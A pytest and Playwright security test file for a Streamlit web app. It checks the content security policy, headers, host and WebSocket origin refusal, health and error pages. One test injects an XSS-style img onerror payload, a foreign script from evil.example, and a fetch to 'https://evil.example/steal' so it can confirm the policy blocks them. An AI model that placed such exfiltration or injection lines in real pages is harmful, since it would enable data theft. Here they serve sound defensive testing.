"""The server's door: whose requests it answers, what its answers allow, how it says it is well."""

from __future__ import annotations

import socket
import subprocess
import sys

import pytest
from playwright.sync_api import BrowserContext, Response, expect

from tests.browser.conftest import connect
from tests.browser.kit.fake_wallet import FakeWallet
from tests.browser.kit.looks import settled, until
from tests.browser.kit.processes import ROOT, Anvil, Server, as_json
from tests.browser.presses import ask, registered

FOREIGN = "evil.example"
PAGES = (
    *("", "card", "perks", "votes", "proposals", "voice", "treasury"),
    *("data", "vault", "moved", "looked", "why", "contracts", "choose"),
)


# ---- the policy ------------------------------------------------------------------------


def test_policy__a_whole_errand__breaks_no_rule(
    context: BrowserContext, wallet: FakeWallet, server: Server
) -> None:
    page = context.new_page()
    broken: list[str] = []
    page.on("console", lambda said: broken.append(said.text) if "Policy" in said.text else None)
    page.on("pageerror", lambda error: broken.append(str(error)))
    connect(page, server.url, wallet)
    ask(page)
    registered(page)
    assert broken == []


class FakePages(Server):
    """The app's own pages over a made-up community."""

    def command(self) -> list[str]:
        program = (
            "from frontend import deciding, services; from frontend.testing import serve;"
            "services.community, services.wallet = serve.community, serve.wallet;"
            "deciding.decisions = serve.decisions;"
            f"from frontend.server import main; main(['--port', '{self.port}'])"
        )
        return [sys.executable, "-c", program]


def is_missing(response: Response) -> bool:
    """Not there; Streamlit itself looks for its own routes beside the page first."""
    return response.status >= 400 and "/_stcore/" not in response.url


def test_policy__every_page__breaks_no_rule(context: BrowserContext) -> None:
    own = FakePages(ROOT / "frontend" / "streamlit_app.py", {})
    try:
        page = context.new_page()
        broken: list[str] = []
        page.on("console", lambda said: broken.append(said.text) if "Policy" in said.text else None)
        page.on("response", lambda got: broken.append(got.url) if is_missing(got) else None)
        for path in PAGES:
            page.goto(f"{own.url}/{path}")
            settled(page)
            page.wait_for_timeout(500)  # a chart draws after its run
        assert broken == []
    finally:
        own.stop()


def test_policy__inline_scripts_and_foreign_ones__are_blocked(
    context: BrowserContext, server: Server
) -> None:
    page = context.new_page()
    page.goto(server.url)
    settled(page)
    page.evaluate(
        """() => {
          window.blocked = [];
          document.addEventListener("securitypolicyviolation", (event) =>
            window.blocked.push(event.violatedDirective));
          const script = document.createElement("script");
          script.textContent = "window.ran = true";
          document.body.append(script);
          const foreign = document.createElement("script");
          foreign.src = "https://evil.example/x.js";
          document.body.append(foreign);
          document.body.insertAdjacentHTML("beforeend", "<img src=x: onerror='window.ran = true'>");
          fetch("https://evil.example/steal").catch(() => {});
          // Not here and now: what the test's own protocol runs, it runs without the policy.
          setTimeout(() => { eval("window.ran = true"); });
        }"""
    )
    wanted = {"script-src-elem", "script-src-attr", "connect-src", "script-src"}
    until(page, lambda: wanted <= set(page.evaluate("window.blocked")))
    assert page.evaluate("window.ran") is None


@pytest.mark.parametrize("path", ["/", "/healthz", "/_stcore/health", "/votes", "/nowhere.js"])
def test_headers__every_answer__carries_them(server: Server, path: str) -> None:
    _, headers, _ = server.get(path)
    policy = headers["content-security-policy"]
    assert "unsafe-eval" not in policy
    assert "script-src 'self' blob: 'sha256-" in policy
    assert "frame-ancestors 'none'" in policy
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["x-frame-options"] == "DENY"
    assert headers["referrer-policy"] == "same-origin"


# ---- names and origins ----------------------------------------------------------------------


@pytest.mark.parametrize("host", [FOREIGN, f"localhost.{FOREIGN}", "localhost@evil.example", ""])
def test_host__not_ours__is_refused(server: Server, host: str) -> None:
    status, headers, body = server.get("/", Host=host)
    assert (status, body) == (421, "This server has another name.")
    assert "content-security-policy" in headers


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1:1234", "LOCALHOST."])
def test_host__ours__is_answered(server: Server, host: str) -> None:
    assert server.get("/", Host=host)[0] == 200


@pytest.mark.parametrize(
    ("host", "origin", "status"),
    [
        ("{own}", "http://{own}", 101),
        ("{own}", "http://evil.example", 403),
        ("evil.example", "http://evil.example", 403),
        ("evil.example", None, 403),
        ("{own}", "null", 403),
    ],
)
def test_websocket__of_another_page__is_refused(
    server: Server, host: str, origin: str | None, status: int
) -> None:
    own = f"127.0.0.1:{server.port}"
    lines = [
        "GET /_stcore/stream HTTP/1.1",
        f"Host: {host.format(own=own)}",
        "Upgrade: websocket",
        "Connection: Upgrade",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        "Sec-WebSocket-Version: 13",
        *([f"Origin: {origin.format(own=own)}"] if origin else []),
    ]
    with socket.create_connection(("127.0.0.1", server.port), timeout=60) as wire:
        wire.sendall(("\r\n".join(lines) + "\r\n\r\n").encode())
        assert wire.recv(64).split()[1] == str(status).encode()


def test_metrics__are_closed(server: Server) -> None:
    assert server.get("/_stcore/metrics")[0] == 404
    assert server.get("/_stcore/metrics/")[0] == 404


def test_agent_api__is_off(server: Server) -> None:
    status, _, _ = server.post("/_stcore/agent/interact", b"{}")
    assert status in (403, 404)


# ---- health -----------------------------------------------------------------------------------


def test_health__all_well(server: Server, node: Anvil) -> None:
    answer = server.get("/healthz")
    told = as_json(answer)
    assert answer[0] == 200
    assert told["app"] == "up"
    assert told["chain"]["reachable"] is True
    assert told["chain"]["chain_id"] == told["expected_chain_id"] == node.chain_id
    assert told["chain"]["head"] <= node.web3.eth.block_number
    assert told["chain"]["head_age_seconds"] >= 0


# ---- what an error shows -----------------------------------------------------------------------


def test_error__in_a_page__shows_no_traceback(context: BrowserContext, server: Server) -> None:
    page = context.new_page()
    page.goto(f"{server.url}?break=1")
    expect(page.get_by_test_id("stException")).to_be_visible()
    text = page.content()
    assert "secret of the server" not in text
    assert "RuntimeError" not in text
    assert "bridge_app.py" not in text


# ---- starting ------------------------------------------------------------------------------------


def test_start__settings_amiss__ends_with_one_sentence() -> None:
    command = [sys.executable, "-m", "frontend.server", "--address", "0.0.0.0"]
    own = {"PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT)}
    done = subprocess.run(
        command, cwd=ROOT, env=own, capture_output=True, text=True, timeout=120, check=False
    )
    assert done.returncode == 1
    assert done.stderr.startswith("Set CERCLE_PUBLIC_URL: ")
    assert done.stderr.count("\n") == 1
